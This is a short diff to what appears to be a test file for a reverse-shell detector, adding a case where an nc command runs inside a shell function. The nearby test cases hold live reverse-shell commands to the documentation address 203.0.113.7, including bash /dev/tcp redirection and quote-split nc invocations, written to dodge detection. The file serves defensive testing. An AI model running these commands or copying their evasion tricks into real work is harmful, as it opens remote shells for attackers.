@@ -54,6 +54,7 @@ indicatorTable(commandReverseShell, {
     ),
     'behind wrappers': script("timeout 60 setsid bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'"),
     'quotes inside the words': script('n\'\'c 203.0.113.7 4444 -e /bin/s"h"'),
+    'a connection in a function': script('f() { nc 203.0.113.7 "$1" -e /bin/sh; }; f 4444'),
     'in a liveness probe': cronJob({
       containers: [
         {
